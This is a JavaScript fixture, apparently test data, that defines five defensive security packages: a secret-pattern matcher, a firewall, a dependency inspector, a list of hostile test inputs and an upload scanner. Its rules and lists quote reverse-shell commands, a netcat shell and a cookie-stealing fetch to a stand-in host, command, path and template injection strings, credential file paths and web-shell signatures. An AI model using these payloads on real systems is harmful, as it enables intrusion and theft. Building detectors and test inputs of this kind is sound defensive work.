import { tarballs } from '../archives';
import { src } from '../benign-case';

export const SECURITY_TOOLS = tarballs('security tools', [
  {
    why: 'A library of patterns for secrets; it matches text it is given and reads or sends nothing.',
    name: 'secret-patterns',
    version: '3.8.0',
    summary: 'Regular expressions for tokens and keys of sixty services.',
    author: 'Ingrid Aas <ingrid@secret-patterns.example>',
    usage: `const { find } = require('secret-patterns');\nfind(text); // [{ id, index }]`,
    manifest: { main: 'index.js' },
    files: {
      'index.js': src`
'use strict';

const patterns = require('./patterns');

const entropy = (text) => {
  const counts = {};
  for (const letter of text) counts[letter] = (counts[letter] || 0) + 1;
  return -Object.values(counts).reduce((sum, n) => sum + (n / text.length) * Math.log2(n / text.length), 0);
};

exports.find = (text) =>
  patterns.flatMap(({ id, regex, minEntropy = 0 }) =>
    [...text.matchAll(regex)]
      .filter(([match]) => entropy(match) >= minEntropy)
      .map(({ index }) => ({ id, index })),
  );
`,
      'patterns.js': src`
'use strict';

module.exports = [
  { id: 'aws-access-key', regex: /\b(A3T[A-Z0-9]|AKIA|ASIA|ABIA)[A-Z0-9]{16}\b/g },
  { id: 'aws-secret', regex: /aws_secret_access_key\s*=\s*['"]?([A-Za-z0-9/+=]{40})/gi, minEntropy: 4 },
  { id: 'github-token', regex: /\b(ghp|gho|ghu|ghs|ghr)_[A-Za-z0-9]{36,251}\b/g },
  { id: 'npm-token', regex: /\/\/[^\s:]+\/:_authToken=\s*\S+/g },
  { id: 'slack-webhook', regex: /https:\/\/hooks\.slack\.[a-z]+\/services\/T\w{8,}\/B\w{8,}\/\w{24}/g },
  { id: 'discord-webhook', regex: /https:\/\/(?:ptb\.|canary\.)?discord(?:app)?\.[a-z]+\/api\/webhooks\/\d+\/[\w-]+/g },
  { id: 'private-key', regex: /-----BEGIN ((EC|PGP|DSA|RSA|OPENSSH) )?PRIVATE KEY( BLOCK)?-----/g },
  { id: 'ethereum-key', regex: /\b0x[a-f0-9]{64}\b/gi, minEntropy: 3 },
  { id: 'jwt', regex: /\beyJ[\w-]+\.eyJ[\w-]+\.[\w-]+/g },
  { id: 'stripe', regex: /\b[rs]k_live_[A-Za-z0-9]{24,}\b/g },
];
`,
    },
  },
  {
    why: 'A web application firewall whose rules quote attacks: shell commands, script tags, SQL and traversal.',
    name: 'gatehouse-waf',
    version: '1.4.4',
    summary: 'Firewall middleware with readable rules.',
    author: 'Gatehouse <security@gatehouse-waf.example>',
    licence: 'Apache-2.0',
    usage: `app.use(require('gatehouse-waf')({ paranoia: 1 }));`,
    manifest: { main: 'index.js' },
    files: {
      'index.js': src`
'use strict';

const rules = require('./rules');

module.exports = function gatehouse({ paranoia = 1 } = {}) {
  const active = rules.filter((rule) => rule.level <= paranoia);
  return function firewall(request, response, next) {
    const text = decodeURIComponent(request.url) + '\n' + (request.headers['user-agent'] || '');
    const hit = active.find(({ match }) => match.test(text));
    if (!hit) return next();
    response.statusCode = 403;
    response.end('blocked: ' + hit.id);
  };
};
`,
      'rules.js': src`
'use strict';

module.exports = [
  { id: 'sqli-union', level: 1, match: /union(\s|\/\*.*?\*\/)+(all\s+)?select/i },
  { id: 'sqli-sleep', level: 1, match: /(sleep|benchmark|waitfor\s+delay)\s*\(?/i },
  { id: 'xss-script', level: 1, match: /<script[^>]*>|javascript:|onerror\s*=|document\.cookie/i },
  { id: 'xss-eval', level: 2, match: /eval\s*\(\s*(atob|String\.fromCharCode|unescape)\s*\(/i },
  { id: 'lfi-passwd', level: 1, match: /(\.\.[\\/]){2,}|\/etc\/(passwd|shadow)|\/proc\/self\/environ/ },
  { id: 'rce-curl-sh', level: 1, match: /(curl|wget)\s+[^|;]+[|;]\s*(ba)?sh/i },
  { id: 'rce-node', level: 1, match: /require\(['"]child_process['"]\)\.(exec|spawn)/ },
  { id: 'rce-reverse-shell', level: 1, match: /(bash\s+-i\s+>&\s*\/dev\/tcp\/|nc\s+-e\s+\/bin\/sh|mkfifo\s+\/tmp)/ },
  { id: 'rce-powershell', level: 2, match: /powershell(\.exe)?\s+(-enc|-nop|-w\s+hidden)/i },
  { id: 'log4shell', level: 1, match: /\$\{(jndi|lower|upper|env):/i },
  { id: 'ssrf-metadata', level: 2, match: /169\.254\.169\.254|metadata\.internal/ },
];
`,
    },
  },
  {
    why: 'Looks for hostile code in installed packages, and therefore holds rules that describe it.',
    name: 'depwatch-inspect',
    version: '0.12.0',
    summary: 'Reports what your dependencies can do.',
    author: 'Depwatch <team@depwatch.example>',
    usage: `// in a shell\n// npx depwatch-inspect node_modules`,
    manifest: { bin: { 'depwatch-inspect': 'cli.js' } },
    files: {
      'cli.js': src`
#!/usr/bin/env node
'use strict';

const fs = require('fs');
const path = require('path');
const { inspect } = require('./inspect');

const root = process.argv[2] || 'node_modules';
for (const name of fs.readdirSync(root)) {
  const manifest = path.join(root, name, 'package.json');
  if (!fs.existsSync(manifest)) continue;
  const { scripts = {}, main = 'index.js' } = JSON.parse(fs.readFileSync(manifest, 'utf8'));
  const hooks = ['preinstall', 'install', 'postinstall'].filter((hook) => scripts[hook]);
  const entry = path.join(root, name, main);
  const found = fs.existsSync(entry) ? inspect(fs.readFileSync(entry, 'utf8')) : [];
  if (hooks.length + found.length) console.log(name + ': ' + [...hooks, ...found].join(', '));
}
`,
      'inspect.js': src`
'use strict';

const SIGNS = [
  ['subprocess', ["require('child_process')", 'execSync(', 'spawn(', 'powershell -enc']],
  ['dynamic code', ['eval(', 'new Function(', 'vm.runInThisContext', "Buffer.from(payload, 'base64')"]],
  ['network', ["require('http", 'fetch(', 'XMLHttpRequest', 'dns.resolveTxt']],
  ['environment', ['process.env', 'os.userInfo()', 'os.hostname()']],
  ['credentials', ['.npmrc', '.ssh/id_rsa', '.aws/credentials', '.git-credentials', 'Login Data', 'wallet.dat']],
  ['obfuscation', ['_0x', '\\x65\\x76\\x61\\x6c', 'String.fromCharCode(', 'atob(']],
];

exports.inspect = (source) => SIGNS.filter(([, texts]) => texts.some((text) => source.includes(text))).map(([id]) => id);
`,
    },
  },
  {
    why: 'A list of cross-site scripting strings that testers put into their own forms.',
    name: 'naughty-inputs',
    version: '2.0.0',
    summary: 'Inputs that break careless programs, as test data.',
    author: 'Beatriz Lima <bea@naughty-inputs.example>',
    usage: `const { all } = require('naughty-inputs');\nfor (const input of all) await form.submit(input);`,
    manifest: { main: 'index.js' },
    files: {
      'index.js': `'use strict';\n\nconst lists = require('./lists.json');\n\nexports.lists = lists;\nexports.all = Object.values(lists).flat();\n`,
      'lists.json': `${JSON.stringify(
        {
          script: [
            '<script>alert(1)</script>',
            '<img src=x onerror=alert(document.cookie)>',
            '"><svg/onload=eval(atob("YWxlcnQoMSk="))>',
            "javascript:fetch('//a.test/'+document.cookie)",
          ],
          shell: [
            '; cat /etc/passwd',
            '$(touch /tmp/owned)',
            '`id`',
            '| nc a.test 4444 -e /bin/sh',
            '& powershell -nop -w hidden -c calc',
          ],
          template: [
            '{{constructor.constructor("return process.env")()}}',
            '${7*7}',
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            '<%= system("id") %>',
          ],
          unicode: ['\u202Etest\u202E', '\uFEFF', 'Ω≈ç√∫', 'ﷺ', '田中さん'],
          path: [
            '../../../../etc/shadow',
            '..\\..\\windows\\system32\\config\\sam',
            'file:///etc/passwd',
            'CON',
            'aux.txt',
          ],
        },
        null,
        2,
      )}\n`,
    },
  },
  {
    why: 'A scanner of uploads with signatures in text and hex; the standard antivirus test string is put together at run time.',
    name: 'upload-guard',
    version: '1.1.5',
    summary: 'Looks through uploads by signature before they are stored.',
    author: 'Upload Guard <dev@upload-guard.example>',
    usage: `const { check } = require('upload-guard');\ncheck(buffer); // [] or names of signatures`,
    manifest: { main: 'index.js' },
    files: {
      'index.js': src`
'use strict';

const { signatures } = require('./signatures');

exports.check = (buffer) =>
  signatures
    .filter(({ bytes, text }) => (bytes ? buffer.includes(Buffer.from(bytes, 'hex')) : buffer.includes(text)))
    .map(({ name }) => name);
`,
      'signatures.js': src`
'use strict';

exports.signatures = [
  // In two halves, or every virus scanner would hold this very file.
  { name: 'antivirus-test-file', text: 'X5O!P%@AP[4\\PZX54(P^)7CC)7}' + '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' },
  { name: 'php-shell', text: '<?php eval(base64_decode($_POST[' },
  { name: 'jsp-shell', text: 'Runtime.getRuntime().exec(request.getParameter(' },
  { name: 'macro-autoopen', text: 'Sub AutoOpen()' },
  { name: 'elf', bytes: '7f454c46' },
  { name: 'pe', bytes: '4d5a90000300000004000000ffff' },
  { name: 'miner-pool', text: 'stratum+tcp://' },
  { name: 'ransom-note', text: 'YOUR FILES HAVE BEEN ENCRYPTED' },
];
`,
    },
  },
]);
